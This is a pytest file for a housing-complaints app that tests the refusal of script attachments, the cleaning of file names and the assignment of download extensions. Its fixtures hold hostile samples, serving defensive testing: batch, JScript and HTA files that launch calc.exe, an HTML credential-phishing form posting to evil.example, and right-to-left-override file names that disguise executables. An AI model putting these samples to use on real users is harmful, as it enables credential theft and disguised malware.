"""Files given as evidence: programs and pages written as text are refused, names are cleaned, and every
download ends in the extension of the type found in the content, over the API, the portal and the console."""

from __future__ import annotations

import io
import json
from typing import Any
from urllib.parse import quote

import pytest

from backend.complaints import files
from backend.complaints.models import Attachment, Contact
from tests import factories
from tests.test_cases_portal import tell_us
from tests.test_complaints_api import SUBMIT, png

# The four files from the security audit (finding 5). Each is valid UTF-8 text that does not start with "<".
AUDIT_FILES = {
    "evidence.bat": b"@echo off\r\necho Collecting the damp readings...\r\nstart calc.exe\r\n",
    "evidence.js": b'WScript.CreateObject("WScript.Shell").Run("calc.exe")\r\n',
    "evidence.hta": b"Damp report\n<img src=x onerror=\"new ActiveXObject('WScript.Shell').Run('calc.exe')\">\n",
    "evidence.html": (
        b"Your repair appointment\n"
        b'<form action="https://evil.example/steal">Password: <input type="password" name="p"></form>\n'
        b'<img src=x onerror="document.forms[0].submit()">\n'
    ),
}
LETTER = (
    b"Dear Sir or Madam,\r\n"
    b"The damp started again in March. I set up a direct debit for the rent and your contractor said the work\r\n"
    b"would start on Monday, but nobody came.\r\n"
    b"Call me on 07700 900123 after 5pm.\r\n"
    b"Yours faithfully,\r\nJane Evans\r\n"
)


def submit_with_files(client: Any, secret: str, uploads: list[tuple[bytes, str]]) -> dict[str, Any]:
    """Run contactSubmit as a multipart request (the GraphQL multipart spec), as a tool would."""
    operations = {
        "query": SUBMIT,
        "variables": {
            "input": {
                "channel": "email",
                "description": "Evidence of the damp, attached.",
                "wantsToComplain": True,
                "attachments": [None] * len(uploads),
            }
        },
    }
    data: dict[str, Any] = {
        "operations": json.dumps(operations),
        "map": json.dumps({str(i): [f"variables.input.attachments.{i}"] for i in range(len(uploads))}),
    }
    for index, (content, name) in enumerate(uploads):
        data[str(index)] = (io.BytesIO(content), name)
    response = client.post(
        "/graphql", data=data, headers={"Authorization": f"Bearer {secret}"}, content_type="multipart/form-data"
    )
    return response.get_json()["data"]["contactSubmit"]


def resident_token() -> str:
    resident = factories.make_user(home=factories.make_home())
    return factories.make_token(resident, scope="write")[1]


@pytest.mark.parametrize("name", AUDIT_FILES)
def test_contact_submit_with_a_script_written_as_text_is_refused(client, name: str) -> None:
    made = submit_with_files(client, resident_token(), [(AUDIT_FILES[name], name)])
    assert (made["__typename"], made["field"], made["code"]) == ("ValidationError", "attachments", "script")
    assert name in made["message"] and "program or a web page" in made["message"]
    assert Contact.select().count() == 0 and Attachment.select().count() == 0


@pytest.mark.parametrize("name", AUDIT_FILES)
def test_portal_form_with_a_script_written_as_text_is_refused(browser, signed_in, name: str) -> None:
    signed_in("resident")
    response = tell_us(browser, "My words must stay.", [(AUDIT_FILES[name], name)])
    page = response.get_data(as_text=True)
    assert response.status_code == 400
    assert "is a program or a web page, so we cannot accept it" in page and name in page
    assert "My words must stay." in page
    assert Attachment.select().count() == 0


def test_letter_mentioning_start_and_set_is_kept_and_served_as_text(browser, signed_in) -> None:
    signed_in("resident")
    response = tell_us(browser, "My letter is attached.", [(LETTER, "letter to the landlord.bat")])
    assert response.status_code == 302
    stored = Attachment.get()
    assert (stored.file_name, stored.media_type) == ("letter to the landlord.txt", "text/plain")
    download = browser.client.get(f"/attachments/{stored.id}")
    assert download.data == LETTER
    assert download.headers["Content-Disposition"] == "attachment; filename*=UTF-8''letter%20to%20the%20landlord.txt"


def test_right_to_left_override_in_a_name_is_removed_and_the_type_decides_the_extension(
    client,
) -> None:
    made = submit_with_files(client, resident_token(), [(png(), "\u202egnp.exe")])
    assert made["__typename"] == "ContactSubmitted", made
    stored = Attachment.get()
    assert stored.file_name == "gnp.png"


def test_download_of_a_name_with_bidi_controls_has_none_left(browser, signed_in) -> None:
    signed_in("resident")
    tell_us(browser, "Photo.", [(png(), "mould\u2066\u200b\u202e\u2028photo\u061c.jpg.exe")])
    download = browser.client.get(f"/attachments/{Attachment.get().id}")
    disposition = download.headers["Content-Disposition"]
    assert disposition == "attachment; filename*=UTF-8''mouldphoto.jpg.png"
    for control in ("\u2066", "\u200b", "\u202e", "\u2028", "\u061c"):
        assert quote(control) not in disposition


def stored_before_the_fix(contact: Any, name: str, media_type: str, content: bytes) -> Attachment:
    """A row as the old intake kept it: the client's name as given, with the checked media type."""
    saved = files.storage().save(io.BytesIO(content), len(content))
    return Attachment.create(
        contact=contact.id,
        file_name=name,
        media_type=media_type,
        family="document" if media_type == "text/plain" else "image",
        size=saved.size,
        sha256=saved.sha256,
        storage_key=saved.key,
    )


@pytest.mark.parametrize(
    ("name", "media_type", "served"),
    [
        ("evidence.bat", "text/plain", "evidence.txt"),
        ("evidence.hta", "text/plain", "evidence.txt"),
        ("\u202egnp.exe", "image/png", "gnp.png"),
        ("report", "application/x-unknown", "report.bin"),
    ],
)
def test_attachment_kept_before_names_were_cleaned_is_served_under_its_types_extension(
    browser,
    signed_in,
    name: str,
    media_type: str,
    served: str,
) -> None:
    contact = factories.make_contact()
    row = stored_before_the_fix(contact, name, media_type, b"Damp report")
    signed_in("staff")
    download = browser.client.get(f"/attachments/{row.id}")
    assert download.status_code == 200
    assert download.headers["Content-Disposition"] == f"attachment; filename*=UTF-8''{served}"
    expected_type = media_type if media_type != "application/x-unknown" else "application/octet-stream"
    assert download.headers["Content-Type"].split(";")[0] == expected_type


def test_console_contact_page_shows_the_name_files_are_served_under(browser, signed_in) -> None:
    contact = factories.make_contact()
    stored_before_the_fix(contact, "evidence\u202e.bat", "text/plain", b"Damp report")
    signed_in("staff")
    page = browser.client.get(f"/console/contacts/{contact.id}").get_data(as_text=True)
    assert "evidence.txt" in page
    assert "evidence.bat" not in page and "\u202e" not in page


def test_every_refused_file_is_named_at_once() -> None:
    from backend.complaints.files import Upload, check
    from backend.errors import Invalid

    files = [
        Upload("photo.png", io.BytesIO(png())),
        Upload("run.bat", io.BytesIO(b"@echo off\nstart calc.exe\n")),
        Upload("page.hta", io.BytesIO(b"Report\n<script>x</script>\n")),
    ]
    with pytest.raises(Invalid) as refused:
        check(files)
    assert refused.value.code == "script"
    assert refused.value.params["name"] == "run.bat”, “page.hta"
